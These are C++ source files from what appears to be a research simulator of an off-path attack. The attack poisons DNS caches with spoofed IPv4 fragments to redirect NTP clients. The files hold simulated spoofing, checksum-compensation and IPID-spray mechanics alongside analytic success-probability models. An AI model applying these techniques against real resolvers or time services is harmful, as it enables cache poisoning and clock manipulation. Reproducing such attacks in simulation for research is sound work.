}

std::vector<Ipv4Addr> World::attacker_ntp_addrs() const {
  std::vector<Ipv4Addr> out;
  out.reserve(attacker_ntp_.size());
  for (const auto& ps : attacker_ntp_) out.push_back(ps->stack->addr());
  return out;
}

attack::PoisonerConfig World::default_poisoner_config() const {
  attack::PoisonerConfig pc;
  pc.ns_addr = ns_stack_->addr();
  pc.resolver_addr = resolver_stack_->addr();
  pc.mtu = config_.attack_mtu;
  // The spoofed fragment redirects the zone's glue to the attacker's
  // nameserver; the nameserver then hands out the attacker's NTP fleet.
  pc.malicious_addrs = {attacker_ns_stack_->addr()};
  return pc;
}

World::Host& World::add_host(Ipv4Addr addr, net::StackConfig stack_config) {
  auto host = std::make_unique<Host>();
  if (stack_config.origin_module == OriginModule::kUnknown) {
    stack_config.origin_module = OriginModule::kVictim;
  }
  host->stack =
      std::make_unique<net::NetStack>(net_, addr, stack_config, rng_.fork());
  hosts_.push_back(std::move(host));
  return *hosts_.back();
}

bool World::is_attacker_ntp(Ipv4Addr addr) const {
  for (const auto& ps : attacker_ntp_) {
    if (ps->stack->addr() == addr) return true;
  }
  return false;
}

bool World::pool_a_poisoned() {
  auto cached = resolver_->cache().lookup(kPoolName, dns::RrType::kA,
                                          loop_.now());
  if (!cached) return false;
  for (const auto& rr : *cached) {
    if (is_attacker_ntp(rr.a)) return true;
  }
  return false;
}

bool World::delegation_hijacked() {
  // The delegation is hijacked when the cached glue for any pool NS name
  // points at the attacker's nameserver.
  for (const auto& label : {"ns1", "ns2", "ns3"}) {
    auto glue = resolver_->cache().lookup(
        dns::DnsName::from_string(std::string(label) + ".ntp.org"),
        dns::RrType::kA, loop_.now());
    if (!glue) continue;
    for (const auto& rr : *glue) {
      if (rr.a == attacker_ns_stack_->addr()) return true;
    }
  }
  return false;
}

}  // namespace dnstime::scenario
