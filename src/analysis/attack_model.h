// Analytic model of the boot-time poisoning economics (§IV-A) and the
// IPID-spray hit probability — the ablation counterpart to the simulated
// attacks.
#pragma once

#include "sim/time.h"

namespace dnstime::analysis {

/// §IV-A: spoofed fragments needed to keep one planted at all times while
/// waiting for the victim's query: one per reassembly-timeout interval,
/// for the duration of one A-record TTL window. "The TTL of pool.ntp.org
/// A record is only 150 sec ... which in the worst case requires 150/30 =
/// 5 spoofed (second) fragments per attack."
[[nodiscard]] inline int fragments_per_ttl_window(
    sim::Duration record_ttl = sim::Duration::seconds(150),
    sim::Duration reassembly_timeout = sim::Duration::seconds(30)) {
  i64 ttl = record_ttl.ns();
  i64 timeout = reassembly_timeout.ns();
  return static_cast<int>((ttl + timeout - 1) / timeout);
}

/// Probability that one spray covers the response's IPID, when the
/// nameserver's counter advances by Poisson(background_rate * t) between
/// the attacker's last observation and the response, t uniform in
/// [0, replant_interval]. Window = [observed+1, observed+width].
[[nodiscard]] double spray_hit_probability(double background_rate_per_s,
                                           double replant_interval_s,
                                           std::size_t spray_width);

/// Expected attack duration until the first poisoning success, given one
/// attempt per TTL window with hit probability `p_hit` (geometric).
[[nodiscard]] double expected_windows_until_success(double p_hit);

}  // namespace dnstime::analysis
