// Closed-form probability model of the run-time attack (§V-B, Table III),
// plus a Monte-Carlo validator.
//
// P1(n): the attacker discovers upstream servers one at a time (refid
// leak) and must remove n of them; each is rate-limiting independently
// with probability p, so P1(n) = p^n.
//
// P2(m, n): the attacker knows all m upstreams and may pick which n to
// remove; success iff at least n of the m rate-limit:
//   P2(m, n) = sum_{i=n..m} C(m,i) p^i (1-p)^{m-i}.
//
// The paper's Table III uses n = max(strict majority of m, m-2): a client
// shifts time only when a majority of associations serve attacker time,
// and ntpd-style clients re-query DNS only after dropping to MINCLOCK
// (m - 2 removals).
#pragma once

#include <vector>

#include "common/rng.h"

namespace dnstime::analysis {

/// §VII-A measurement: fraction of pool.ntp.org servers that rate-limit.
inline constexpr double kMeasuredRateLimitFraction = 0.38;

[[nodiscard]] double binomial_coefficient(int n, int k);

/// P1(n) = p^n.
[[nodiscard]] double p1(int n, double p = kMeasuredRateLimitFraction);

/// P2(m, n) = P[at least n of m rate-limit].
[[nodiscard]] double p2(int m, int n, double p = kMeasuredRateLimitFraction);

/// Table III's n for a client with m associations: the attacker must
/// remove max(strict majority, m-2) servers.
[[nodiscard]] int required_removals(int m);

struct TableIIIRow {
  int m;
  int n;
  double p1;
  double p2;
};

/// All rows of Table III (m = 1..9).
[[nodiscard]] std::vector<TableIIIRow> table_iii(
    double p = kMeasuredRateLimitFraction);

/// Monte-Carlo estimate of P2(m, n): draw m servers, count rate limiters.
[[nodiscard]] double monte_carlo_p2(int m, int n, double p, int trials,
                                    Rng& rng);

}  // namespace dnstime::analysis
