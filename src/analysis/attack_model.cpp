#include "analysis/attack_model.h"

#include <cmath>
#include <limits>

namespace dnstime::analysis {

namespace {
/// P[Poisson(lambda) < k] — probability the counter advanced by fewer
/// than k increments.
double poisson_cdf_below(double lambda, std::size_t k) {
  double term = std::exp(-lambda);
  double sum = 0.0;
  for (std::size_t i = 0; i < k; ++i) {
    sum += term;
    term *= lambda / static_cast<double>(i + 1);
  }
  return sum > 1.0 ? 1.0 : sum;
}
}  // namespace

double spray_hit_probability(double background_rate_per_s,
                             double replant_interval_s,
                             std::size_t spray_width) {
  if (spray_width == 0) return 0.0;
  if (background_rate_per_s <= 0.0) return 1.0;  // counter frozen: exact hit
  // Average over the response arriving uniformly within the interval.
  const int steps = 200;
  double total = 0.0;
  for (int i = 0; i < steps; ++i) {
    double t = (static_cast<double>(i) + 0.5) / steps * replant_interval_s;
    total += poisson_cdf_below(background_rate_per_s * t, spray_width);
  }
  return total / steps;
}

double expected_windows_until_success(double p_hit) {
  if (p_hit <= 0.0) return std::numeric_limits<double>::infinity();
  return 1.0 / p_hit;
}

}  // namespace dnstime::analysis
