#include "analysis/probability.h"

#include <cmath>

namespace dnstime::analysis {

double binomial_coefficient(int n, int k) {
  if (k < 0 || k > n) return 0.0;
  if (k > n - k) k = n - k;
  double result = 1.0;
  for (int i = 0; i < k; ++i) {
    result *= static_cast<double>(n - i) / static_cast<double>(i + 1);
  }
  return result;
}

double p1(int n, double p) { return std::pow(p, n); }

double p2(int m, int n, double p) {
  double total = 0.0;
  for (int i = n; i <= m; ++i) {
    total += binomial_coefficient(m, i) * std::pow(p, i) *
             std::pow(1.0 - p, m - i);
  }
  return total;
}

int required_removals(int m) {
  int majority = m / 2 + 1;  // strict majority
  int to_minclock = m - 2;   // removals until a DNS re-query triggers
  return majority > to_minclock ? majority : to_minclock;
}

std::vector<TableIIIRow> table_iii(double p) {
  std::vector<TableIIIRow> rows;
  for (int m = 1; m <= 9; ++m) {
    int n = required_removals(m);
    rows.push_back(TableIIIRow{m, n, p1(n, p), p2(m, n, p)});
  }
  return rows;
}

double monte_carlo_p2(int m, int n, double p, int trials, Rng& rng) {
  int hits = 0;
  for (int t = 0; t < trials; ++t) {
    int limiting = 0;
    for (int i = 0; i < m; ++i) {
      if (rng.chance(p)) limiting++;
    }
    if (limiting >= n) hits++;
  }
  return static_cast<double>(hits) / trials;
}

}  // namespace dnstime::analysis
