// UDP datagram codec with real RFC 768 checksum over the IPv4 pseudo
// header. Checksum verification on receive is what forces the attacker's
// §III-3 compensation trick — a naively modified fragment fails here.
#pragma once

#include "common/bytes.h"
#include "common/types.h"
#include "net/ipv4.h"

namespace dnstime::net {

inline constexpr std::size_t kUdpHeaderSize = 8;

struct UdpDatagram {
  u16 src_port = 0;
  u16 dst_port = 0;
  PacketBuf payload;
};

/// Encode with checksum computed over pseudo header + UDP header + payload.
[[nodiscard]] Bytes encode_udp(const UdpDatagram& dgram, Ipv4Addr src,
                               Ipv4Addr dst);

/// Zero-copy encode: prepends the 8-byte UDP header into `payload`'s
/// headroom (builders reserve kPacketHeadroom) and patches the checksum in
/// place — the datagram the netstack's send path hands to fragmentation.
[[nodiscard]] PacketBuf encode_udp_buf(PacketBuf payload, u16 src_port,
                                       u16 dst_port, Ipv4Addr src,
                                       Ipv4Addr dst);

/// Decode and verify the checksum; throws DecodeError on mismatch.
[[nodiscard]] UdpDatagram decode_udp(std::span<const u8> data, Ipv4Addr src,
                                     Ipv4Addr dst);

/// Zero-copy decode: the returned datagram's payload is a slice of `wire`
/// (no byte copies). Same validation as the span overload.
[[nodiscard]] UdpDatagram decode_udp_buf(const PacketBuf& wire, Ipv4Addr src,
                                     Ipv4Addr dst);

/// Compute the checksum that `encode_udp` would place in the header.
[[nodiscard]] u16 udp_checksum(const UdpDatagram& dgram, Ipv4Addr src,
                               Ipv4Addr dst);

}  // namespace dnstime::net
