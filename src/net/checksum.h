// RFC 1071 Internet checksum (ones' complement arithmetic).
//
// These routines are the substrate of the paper's §III-3 attack step: the
// off-path attacker must craft a replacement second fragment whose ones'
// complement sum equals that of the original, so the UDP checksum carried
// in the (unmodifiable) first fragment still verifies after reassembly.
#pragma once

#include <span>

#include "common/types.h"

namespace dnstime::net {

/// Ones' complement sum of 16-bit big-endian words (odd trailing byte is
/// padded with zero), folded to 16 bits. This is `sum1` in the paper's
/// notation; the Internet checksum is its complement.
///
/// Word-at-a-time: accumulates 8 bytes per iteration in a 64-bit ones'
/// complement register (RFC 1071 §2(B): the sum is byte-order independent
/// up to a final byte swap), with 16-bit/odd-byte tail handling.
[[nodiscard]] u16 ones_complement_sum(std::span<const u8> data);

/// Reference byte-pair implementation, kept as the test oracle for the
/// word-at-a-time version (and for the before/after microbenchmark).
[[nodiscard]] u16 ones_complement_sum_scalar(std::span<const u8> data);

/// Combine two folded partial sums (ones' complement addition).
[[nodiscard]] u16 ones_complement_add(u16 a, u16 b);

/// 16-bit ones' complement subtraction a - b.
[[nodiscard]] u16 ones_complement_sub(u16 a, u16 b);

/// Final Internet checksum over a buffer: ~sum1(data). A result of 0x0000
/// is transmitted as 0xFFFF in UDP (0 means "no checksum").
[[nodiscard]] u16 internet_checksum(std::span<const u8> data);

/// IPv4/UDP pseudo-header sum used by the UDP checksum.
[[nodiscard]] u16 pseudo_header_sum(Ipv4Addr src, Ipv4Addr dst, u8 protocol,
                                    u16 length);

}  // namespace dnstime::net
