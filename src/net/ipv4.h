// IPv4 packet model and wire codec.
//
// Packets travel through the simulated Network as structured values for
// speed, but the codec produces real RFC 791 headers (with header checksum)
// so tests and the attack primitives can operate on actual bytes.
#pragma once

#include <optional>

#include "common/bytes.h"
#include "common/types.h"

namespace dnstime::net {

inline constexpr u8 kProtoIcmp = 1;
inline constexpr u8 kProtoUdp = 17;

inline constexpr std::size_t kIpv4HeaderSize = 20;
/// RFC 791 minimum MTU every host must accept; the paper's predecessor
/// attack [Malhotra-Goldberg] needed servers to fragment to this.
inline constexpr u16 kMinimumMtu = 68;
inline constexpr u16 kEthernetMtu = 1500;

/// One IPv4 packet or fragment. `payload` holds the transport-layer bytes
/// carried by *this fragment* (for offset > 0 that is a slice of the
/// original datagram, not a valid transport header).
///
/// The payload is a pooled, reference-counted PacketBuf: copying a packet
/// aliases its bytes (fragments are literal slices of the parent datagram's
/// buffer) and mutation copies-on-write, so wire crafting code can edit a
/// copy without disturbing in-flight aliases.
struct Ipv4Packet {
  Ipv4Addr src;
  Ipv4Addr dst;
  u16 id = 0;
  bool dont_fragment = false;
  bool more_fragments = false;
  u16 frag_offset_units = 0;  ///< offset in 8-byte units, as on the wire
  u8 ttl = 64;
  u8 protocol = kProtoUdp;
  PacketBuf payload;

  [[nodiscard]] bool is_fragment() const {
    return more_fragments || frag_offset_units != 0;
  }
  [[nodiscard]] std::size_t frag_offset_bytes() const {
    return std::size_t{frag_offset_units} * 8;
  }
  [[nodiscard]] std::size_t total_length() const {
    return kIpv4HeaderSize + payload.size();
  }
};

/// Encode to wire bytes, computing the header checksum.
[[nodiscard]] Bytes encode(const Ipv4Packet& pkt);

/// Encode into a pooled buffer (zero extra copies).
[[nodiscard]] PacketBuf encode_buf(const Ipv4Packet& pkt);

/// Decode from wire bytes; throws DecodeError on malformed input or a bad
/// header checksum.
[[nodiscard]] Ipv4Packet decode_ipv4(std::span<const u8> data);

}  // namespace dnstime::net
