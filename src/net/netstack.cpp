#include "net/netstack.h"

#include "common/log.h"
#include "obs/counters.h"
#include "obs/provenance.h"
#include "obs/trace.h"

namespace dnstime::net {

NetStack::NetStack(sim::Network& net, Ipv4Addr addr, StackConfig config,
                   Rng rng)
    : net_(net),
      addr_(addr),
      config_(config),
      rng_(std::move(rng)),
      reasm_(config.reassembly) {
  ipid_global_ = rng_.next_u16();
  net_.attach(addr_, this);
  schedule_expiry();
}

NetStack::~NetStack() {
  destroyed_ = true;
  expiry_event_.cancel();
  net_.detach(addr_);
  // Fold the per-stack hot-path counters into the process registry once,
  // at teardown — one macro site per counter instead of one per packet.
  DNSTIME_COUNT_ADD("net.udp_rx", udp_rx_);
  DNSTIME_COUNT_ADD("net.udp_checksum_failures", udp_bad_csum_);
  DNSTIME_COUNT_ADD("net.fragments_rx", fragments_rx_);
  DNSTIME_COUNT_ADD("net.fragments_dropped", fragments_dropped_);
  DNSTIME_COUNT_ADD("net.packets_tx", packets_tx_);
  DNSTIME_COUNT_ADD("net.fragments_tx", fragments_tx_);
  DNSTIME_COUNT_ADD("net.datagrams_fragmented", datagrams_fragmented_);
  DNSTIME_COUNT_ADD("net.reasm_completed", reasm_.completed());
  DNSTIME_COUNT_ADD("net.reasm_evicted_overflow", reasm_.evicted_overflow());
  DNSTIME_COUNT_ADD("net.reasm_expired", reasm_.expired());
}

void NetStack::schedule_expiry() {
  // Periodic reassembly-cache sweep at 1s granularity; cheap because the
  // cache is keyed and bounded.
  expiry_event_ = loop().schedule_after(sim::Duration::seconds(1), [this] {
    if (destroyed_) return;
    reasm_.expire(now());
    schedule_expiry();
  });
}

void NetStack::bind_udp(u16 port, UdpHandler handler) {
  udp_handlers_[port] = std::move(handler);
}

void NetStack::unbind_udp(u16 port) { udp_handlers_.erase(port); }

u16 NetStack::ephemeral_port() {
  for (;;) {
    u16 port = static_cast<u16>(rng_.uniform(1024, 65535));
    if (!udp_handlers_.contains(port)) return port;
  }
}

u16 NetStack::path_mtu(Ipv4Addr dst) const {
  auto it = path_mtu_.find(dst);
  return it == path_mtu_.end() ? config_.default_mtu : it->second;
}

u16 NetStack::next_ipid(Ipv4Addr dst) {
  switch (config_.ipid_mode) {
    case IpidMode::kGlobalSequential:
      return ipid_global_++;
    case IpidMode::kPerDestination: {
      auto [it, inserted] = ipid_per_dst_.try_emplace(dst, rng_.next_u16());
      return it->second++;
    }
    case IpidMode::kRandom:
      return rng_.next_u16();
  }
  return 0;
}

void NetStack::send_udp(Ipv4Addr dst, u16 src_port, u16 dst_port,
                        PacketBuf payload) {
  Ipv4Packet pkt;
  pkt.src = addr_;
  pkt.dst = dst;
  pkt.id = next_ipid(dst);
  pkt.protocol = kProtoUdp;
  pkt.payload = encode_udp_buf(std::move(payload), src_port, dst_port, addr_,
                               dst);
  DNSTIME_PROV_STAMP(pkt.payload, now().ns(), config_.origin_module, 0);
  u16 mtu = path_mtu(dst);
  if (pkt.total_length() <= mtu) {
    // Common case: no fragmentation, no fragment-vector allocation.
    packets_tx_++;
    net_.send(std::move(pkt));
    return;
  }
  datagrams_fragmented_++;
  for (auto& frag : fragment(pkt, mtu)) {
    packets_tx_++;
    fragments_tx_++;
    net_.send(std::move(frag));
  }
}

void NetStack::send_udp_fragmented(Ipv4Addr dst, u16 src_port, u16 dst_port,
                                   PacketBuf payload, u16 mtu) {
  Ipv4Packet pkt;
  pkt.src = addr_;
  pkt.dst = dst;
  pkt.id = next_ipid(dst);
  pkt.protocol = kProtoUdp;
  pkt.payload = encode_udp_buf(std::move(payload), src_port, dst_port, addr_,
                               dst);
  DNSTIME_PROV_STAMP(pkt.payload, now().ns(), config_.origin_module, 0);
  // Force at least two fragments even when the datagram would fit: split
  // at an 8-byte boundary strictly inside the payload.
  u16 effective = mtu;
  if (pkt.total_length() <= mtu) {
    auto cap = static_cast<std::size_t>(pkt.payload.size() >= 16
                                            ? (pkt.payload.size() / 2) / 8 * 8
                                            : 8);
    effective = static_cast<u16>(kIpv4HeaderSize + std::max<std::size_t>(cap, 8));
  }
  datagrams_fragmented_++;
  for (auto& frag : fragment(pkt, effective)) {
    packets_tx_++;
    fragments_tx_++;
    net_.send(std::move(frag));
  }
}

void NetStack::send_raw(Ipv4Packet pkt) {
  // Raw injection is the spoofing primitive: stamp the payload as spoofed
  // and, for fragments, record the chain's "spoofed fragment planted"
  // event (the crafted second fragments of the paper's spray).
  DNSTIME_PROV_STAMP(pkt.payload, now().ns(), config_.origin_module,
                     Origin::kSpoofed);
#if DNSTIME_OBS
  if (pkt.is_fragment()) {
    DNSTIME_PROV_EVENT(spoofed_inject(now().ns(), pkt.payload.origin(),
                                      pkt.id, pkt.frag_offset_units));
  }
#endif
  packets_tx_++;
  net_.send(std::move(pkt));
}

u64 NetStack::add_packet_tap(PacketTap tap) {
  u64 token = next_tap_token_++;
  taps_.emplace(token, std::move(tap));
  return token;
}

void NetStack::remove_packet_tap(u64 token) { taps_.erase(token); }

void NetStack::deliver(const Ipv4Packet& pkt) {
  if (pkt.dst != addr_) return;  // not ours (defensive; network routes by dst)
  if (!taps_.empty()) {
    // Snapshot so a tap may remove itself (or its owner) during delivery.
    std::vector<PacketTap> taps;
    taps.reserve(taps_.size());
    for (const auto& [token, tap] : taps_) taps.push_back(tap);
    for (const auto& tap : taps) tap(pkt);
  }

  if (pkt.is_fragment()) {
    fragments_rx_++;
    if (!config_.accept_fragments) {
      fragments_dropped_++;
      return;
    }
    if (pkt.frag_offset_units == 0 && config_.min_first_fragment_size > 0 &&
        pkt.total_length() < config_.min_first_fragment_size) {
      // "Tiny fragment" filter: reject datagrams whose leading fragment is
      // suspiciously small (Google-resolver-style policy from Table V).
      fragments_dropped_++;
      return;
    }
    auto full = reasm_.insert(pkt, now());
    if (full) handle_transport(*full);
    return;
  }
  handle_transport(pkt);
}

void NetStack::handle_transport(const Ipv4Packet& pkt) {
  if (pkt.protocol == kProtoIcmp) {
    handle_icmp(pkt);
    return;
  }
  if (pkt.protocol != kProtoUdp) return;
  UdpDatagram dgram;
  try {
    dgram = decode_udp_buf(pkt.payload, pkt.src, pkt.dst);
  } catch (const DecodeError&) {
    // A reassembled datagram with a forged fragment that was not checksum
    // compensated dies here — the §III-3 hurdle.
    udp_bad_csum_++;
    return;
  }
  udp_rx_++;
  auto it = udp_handlers_.find(dgram.dst_port);
  if (it == udp_handlers_.end()) return;
  // Copy the handler before invoking: handlers routinely unbind their own
  // port mid-call (one-shot transactions), which would otherwise destroy
  // the executing lambda.
  UdpHandler handler = it->second;
  handler(UdpEndpoint{pkt.src, dgram.src_port}, dgram.dst_port,
          BufView(dgram.payload));
}

void NetStack::handle_icmp(const Ipv4Packet& pkt) {
  if (!config_.honor_icmp_frag_needed) return;
  IcmpFragNeeded msg;
  try {
    msg = decode_icmp_frag_needed(pkt.payload);
  } catch (const DecodeError&) {
    return;
  }
  // Only react if the embedded original packet claims to originate from us;
  // that is the only validation a typical stack performs, and the attacker
  // can trivially satisfy it (§III-1).
  if (msg.orig_src != addr_) return;
  u16 mtu = std::max(msg.mtu, config_.min_pmtu);
  if (mtu >= config_.default_mtu) return;
  path_mtu_[msg.orig_dst] = mtu;
  DNSTIME_TRACE_INSTANT(now().ns(), "net", "pmtu-reduced", mtu);
  DNSTIME_PROV_EVENT(pmtu_reduced(now().ns(), config_.origin_module, mtu,
                                  msg.orig_dst.value()));
  DNSTIME_LOG(kDebug, "netstack", addr_.to_string(), " PMTU to ",
              msg.orig_dst.to_string(), " reduced to ", mtu);
}

}  // namespace dnstime::net
