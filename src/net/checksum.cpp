#include "net/checksum.h"

#include <bit>
#include <cstring>

namespace dnstime::net {

u16 ones_complement_sum_scalar(std::span<const u8> data) {
  u32 sum = 0;
  std::size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += (u32{data[i]} << 8) | u32{data[i + 1]};
  }
  if (i < data.size()) sum += u32{data[i]} << 8;
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return static_cast<u16>(sum);
}

u16 ones_complement_sum(std::span<const u8> data) {
  // RFC 1071 §2(B): ones' complement addition commutes with byte swapping,
  // so we accumulate native-order machine words (8 bytes per iteration,
  // end-around carry per add) and byte-swap the folded result once on
  // little-endian hosts. memcpy loads keep unaligned slices safe.
  const u8* p = data.data();
  std::size_t n = data.size();
  u64 sum = 0;
  while (n >= 8) {
    u64 w;
    std::memcpy(&w, p, 8);
    sum += w;
    if (sum < w) sum++;  // end-around carry
    p += 8;
    n -= 8;
  }
  if (n != 0) {
    // Zero-padded tail in the same memory order: the RFC's "pad the odd
    // byte with zero" falls out because the pad bytes land where the
    // missing half of the last 16-bit word would have been.
    u8 tail[8] = {};
    std::memcpy(tail, p, n);
    u64 w;
    std::memcpy(&w, tail, 8);
    sum += w;
    if (sum < w) sum++;
  }
  // Fold 64 -> 32 -> 16 with end-around carries.
  u32 s32 = static_cast<u32>(sum >> 32) + static_cast<u32>(sum);
  if (s32 < static_cast<u32>(sum)) s32++;
  u32 s16 = (s32 >> 16) + (s32 & 0xFFFF);
  s16 = (s16 >> 16) + (s16 & 0xFFFF);
  auto folded = static_cast<u16>(s16);
  if constexpr (std::endian::native == std::endian::little) {
    folded = static_cast<u16>((folded << 8) | (folded >> 8));
  }
  return folded;
}

u16 ones_complement_add(u16 a, u16 b) {
  u32 sum = u32{a} + u32{b};
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return static_cast<u16>(sum);
}

u16 ones_complement_sub(u16 a, u16 b) {
  // a - b == a + ~b in ones' complement arithmetic.
  return ones_complement_add(a, static_cast<u16>(~b));
}

u16 internet_checksum(std::span<const u8> data) {
  return static_cast<u16>(~ones_complement_sum(data));
}

u16 pseudo_header_sum(Ipv4Addr src, Ipv4Addr dst, u8 protocol, u16 length) {
  u16 sum = 0;
  sum = ones_complement_add(sum, static_cast<u16>(src.value() >> 16));
  sum = ones_complement_add(sum, static_cast<u16>(src.value() & 0xFFFF));
  sum = ones_complement_add(sum, static_cast<u16>(dst.value() >> 16));
  sum = ones_complement_add(sum, static_cast<u16>(dst.value() & 0xFFFF));
  sum = ones_complement_add(sum, u16{protocol});
  sum = ones_complement_add(sum, length);
  return sum;
}

}  // namespace dnstime::net
