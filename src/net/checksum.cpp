#include "net/checksum.h"

namespace dnstime::net {

u16 ones_complement_sum(std::span<const u8> data) {
  u32 sum = 0;
  std::size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += (u32{data[i]} << 8) | u32{data[i + 1]};
  }
  if (i < data.size()) sum += u32{data[i]} << 8;
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return static_cast<u16>(sum);
}

u16 ones_complement_add(u16 a, u16 b) {
  u32 sum = u32{a} + u32{b};
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return static_cast<u16>(sum);
}

u16 ones_complement_sub(u16 a, u16 b) {
  // a - b == a + ~b in ones' complement arithmetic.
  return ones_complement_add(a, static_cast<u16>(~b));
}

u16 internet_checksum(std::span<const u8> data) {
  return static_cast<u16>(~ones_complement_sum(data));
}

u16 pseudo_header_sum(Ipv4Addr src, Ipv4Addr dst, u8 protocol, u16 length) {
  u16 sum = 0;
  sum = ones_complement_add(sum, static_cast<u16>(src.value() >> 16));
  sum = ones_complement_add(sum, static_cast<u16>(src.value() & 0xFFFF));
  sum = ones_complement_add(sum, static_cast<u16>(dst.value() >> 16));
  sum = ones_complement_add(sum, static_cast<u16>(dst.value() & 0xFFFF));
  sum = ones_complement_add(sum, u16{protocol});
  sum = ones_complement_add(sum, length);
  return sum;
}

}  // namespace dnstime::net
