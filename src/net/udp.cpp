#include "net/udp.h"

#include "net/checksum.h"

namespace dnstime::net {

namespace {

void store_be16(u8* p, u16 v) {
  p[0] = static_cast<u8>(v >> 8);
  p[1] = static_cast<u8>(v);
}

/// Checksum of a fully framed datagram (header csum field holds zero).
u16 datagram_checksum(std::span<const u8> wire, Ipv4Addr src, Ipv4Addr dst) {
  u16 sum = pseudo_header_sum(src, dst, kProtoUdp,
                              static_cast<u16>(wire.size()));
  sum = ones_complement_add(sum, ones_complement_sum(wire));
  u16 csum = static_cast<u16>(~sum);
  // RFC 768: transmitted 0 means "no checksum"; an all-zero result is sent
  // as 0xFFFF.
  return csum == 0 ? 0xFFFF : csum;
}

/// Shared header parse + checksum verification; returns the payload range.
std::pair<UdpDatagram, std::pair<std::size_t, std::size_t>> parse_udp(
    std::span<const u8> data, Ipv4Addr src, Ipv4Addr dst) {
  ByteReader r(data);
  UdpDatagram d;
  d.src_port = r.read_u16();
  d.dst_port = r.read_u16();
  u16 length = r.read_u16();
  if (length < kUdpHeaderSize || length > data.size()) {
    throw DecodeError("bad UDP length");
  }
  u16 wire_csum = r.read_u16();
  if (wire_csum != 0) {
    u16 sum = pseudo_header_sum(src, dst, kProtoUdp, length);
    sum = ones_complement_add(sum, ones_complement_sum(data.subspan(0, length)));
    if (static_cast<u16>(~sum) != 0) throw DecodeError("bad UDP checksum");
  }
  return {std::move(d), {kUdpHeaderSize, length - kUdpHeaderSize}};
}

}  // namespace

u16 udp_checksum(const UdpDatagram& dgram, Ipv4Addr src, Ipv4Addr dst) {
  ByteWriter w;
  w.write_u16(dgram.src_port);
  w.write_u16(dgram.dst_port);
  w.write_u16(static_cast<u16>(kUdpHeaderSize + dgram.payload.size()));
  w.write_u16(0);
  w.write_bytes(dgram.payload);
  return datagram_checksum(w.data(), src, dst);
}

PacketBuf encode_udp_buf(PacketBuf payload, u16 src_port, u16 dst_port,
                         Ipv4Addr src, Ipv4Addr dst) {
  PacketBuf dgram = std::move(payload);
  u8* h = dgram.prepend(kUdpHeaderSize);
  store_be16(h + 0, src_port);
  store_be16(h + 2, dst_port);
  store_be16(h + 4, static_cast<u16>(dgram.size()));
  store_be16(h + 6, 0);
  store_be16(h + 6, datagram_checksum(dgram.span(), src, dst));
  return dgram;
}

Bytes encode_udp(const UdpDatagram& dgram, Ipv4Addr src, Ipv4Addr dst) {
  return encode_udp_buf(dgram.payload, dgram.src_port, dgram.dst_port, src,
                        dst)
      .to_bytes();
}

UdpDatagram decode_udp(std::span<const u8> data, Ipv4Addr src, Ipv4Addr dst) {
  auto [d, range] = parse_udp(data, src, dst);
  d.payload = PacketBuf::copy_of(data.subspan(range.first, range.second));
  return d;
}

UdpDatagram decode_udp_buf(const PacketBuf& wire, Ipv4Addr src, Ipv4Addr dst) {
  auto [d, range] = parse_udp(wire.span(), src, dst);
  d.payload = wire.slice(range.first, range.second);
  return d;
}

}  // namespace dnstime::net
