#include "net/udp.h"

#include "net/checksum.h"

namespace dnstime::net {

namespace {

Bytes encode_with_checksum(const UdpDatagram& dgram, u16 csum) {
  ByteWriter w;
  w.write_u16(dgram.src_port);
  w.write_u16(dgram.dst_port);
  w.write_u16(static_cast<u16>(kUdpHeaderSize + dgram.payload.size()));
  w.write_u16(csum);
  w.write_bytes(dgram.payload);
  return std::move(w).take();
}

}  // namespace

u16 udp_checksum(const UdpDatagram& dgram, Ipv4Addr src, Ipv4Addr dst) {
  auto length = static_cast<u16>(kUdpHeaderSize + dgram.payload.size());
  Bytes wire = encode_with_checksum(dgram, 0);
  u16 sum = pseudo_header_sum(src, dst, kProtoUdp, length);
  sum = ones_complement_add(sum, ones_complement_sum(wire));
  u16 csum = static_cast<u16>(~sum);
  // RFC 768: transmitted 0 means "no checksum"; an all-zero result is sent
  // as 0xFFFF.
  return csum == 0 ? 0xFFFF : csum;
}

Bytes encode_udp(const UdpDatagram& dgram, Ipv4Addr src, Ipv4Addr dst) {
  return encode_with_checksum(dgram, udp_checksum(dgram, src, dst));
}

UdpDatagram decode_udp(std::span<const u8> data, Ipv4Addr src, Ipv4Addr dst) {
  ByteReader r(data);
  UdpDatagram d;
  d.src_port = r.read_u16();
  d.dst_port = r.read_u16();
  u16 length = r.read_u16();
  if (length < kUdpHeaderSize || length > data.size()) {
    throw DecodeError("bad UDP length");
  }
  u16 wire_csum = r.read_u16();
  d.payload = r.read_bytes(length - kUdpHeaderSize);
  if (wire_csum != 0) {
    u16 sum = pseudo_header_sum(src, dst, kProtoUdp, length);
    sum = ones_complement_add(sum, ones_complement_sum(data.subspan(0, length)));
    if (static_cast<u16>(~sum) != 0) throw DecodeError("bad UDP checksum");
  }
  return d;
}

}  // namespace dnstime::net
