// IPv4 reassembly cache (receiver side).
//
// This is the component the paper's §III attack poisons: a spoofed second
// fragment planted here waits (up to the reassembly timeout — 30 s on
// Linux, 60–120 s on Windows, 60 s per RFC 2460) until the genuine first
// fragment arrives, and is then reassembled with it. Policy knobs model the
// OS differences the paper cites: timeout and the cap on concurrently
// cached fragments for the same endpoint pair (64 on patched Linux, 100 on
// Windows).
#pragma once

#include <list>
#include <map>
#include <optional>
#include <unordered_map>

#include "net/ipv4.h"
#include "sim/time.h"

namespace dnstime::net {

struct ReassemblyPolicy {
  sim::Duration timeout = sim::Duration::seconds(30);
  /// Max incomplete datagrams cached per (src,dst,proto) pair. Each planted
  /// spoofed fragment with a distinct IPID consumes one slot, so this caps
  /// the attacker's IPID spray width (paper: Linux 64, Windows 100).
  std::size_t max_datagrams_per_pair = 64;
};

class ReassemblyCache {
 public:
  explicit ReassemblyCache(ReassemblyPolicy policy = {}) : policy_(policy) {}

  /// Insert a fragment observed at `now`. Returns the reassembled full
  /// packet once a datagram completes. Duplicate offsets keep the first
  /// arrival (so a planted spoofed fragment beats the genuine one).
  std::optional<Ipv4Packet> insert(const Ipv4Packet& frag, sim::Time now);

  /// Drop datagrams older than the timeout.
  void expire(sim::Time now);

  [[nodiscard]] std::size_t pending_datagrams() const { return entries_.size(); }
  [[nodiscard]] u64 completed() const { return completed_; }
